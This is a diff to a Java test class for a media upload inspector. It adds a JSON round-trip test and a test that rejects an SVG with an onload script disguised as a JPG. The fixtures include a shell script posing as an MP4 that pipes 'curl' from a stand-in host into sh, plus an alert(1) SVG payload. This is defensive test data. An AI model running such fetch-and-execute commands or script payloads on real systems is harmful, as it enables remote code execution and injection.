@@ -65,6 +65,17 @@ class MediaInspectorTest {
 	}
 
 	@Test
+	void inspectionSurvivesAJsonRoundTripAsTheSubmissionStoresIt() {
+		Inspection inspection = inspector.inspect(TestMedia.mp4(1280, 720, 40, 5), MICRO_VIDEO);
+		tools.jackson.databind.json.JsonMapper json = tools.jackson.databind.json.JsonMapper.builder().build();
+
+		Inspection read = json.readValue(json.writeValueAsString(inspection), Inspection.class);
+
+		assertThat(read).isEqualTo(inspection);
+		assertThat(read.blocksSubmission()).isTrue();
+	}
+
+	@Test
 	void scriptRenamedMp4IsRefusedAsAScript() {
 		Path script = HostileFiles.write(directory, "作品.mp4",
 				"#!/bin/sh\ncurl http://example.invalid/x | sh\n".getBytes(StandardCharsets.UTF_8));
@@ -261,6 +272,15 @@ class MediaInspectorTest {
 		assertThat(verdictAndMessage(inspection, "format"))
 			.isEqualTo(tuple(Verdict.FAILED, "文件实际为SVG矢量图（内含脚本），本项目只接受JPG图片或PNG图片"));
 		assertThat(inspection.contentType()).isEqualTo("application/octet-stream");
+	}
+
+	@Test
+	void svgWithAnEventHandlerCountsAsScripted() {
+		Path svg = HostileFiles.write(directory, "score.jpg",
+				"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".getBytes(StandardCharsets.UTF_8));
+
+		assertThat(verdictAndMessage(inspector.inspect(svg, SCORE), "format"))
+			.isEqualTo(tuple(Verdict.FAILED, "文件实际为SVG矢量图（内含脚本），本项目只接受JPG图片或PNG图片"));
 	}
 
 	@Test
